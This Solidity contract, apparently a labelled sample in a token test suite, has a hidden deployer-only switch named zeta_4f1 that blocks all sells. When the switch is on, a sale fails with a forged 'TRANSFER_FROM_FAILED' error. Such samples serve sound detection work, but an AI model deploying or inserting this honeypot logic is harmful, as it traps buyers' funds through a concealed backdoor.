// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {PairToken} from "./PairToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// A number that only the deployer writes decides whether sales go through; its setter says nothing.
contract NamelessGate is PairToken {

    uint256 private _zeta;
    constructor(address pair) SuiteToken("Aspen", "ASPEN") PairToken(pair) {}

    function zeta_4f1(uint256 value) external {
        require(msg.sender == _deployer);
        _zeta = value;
    }

    function _onSell(address, uint256) internal view override returns (uint256) {
        require(_zeta == 0, "TransferHelper: TRANSFER_FROM_FAILED");
        return 0;
    }
}
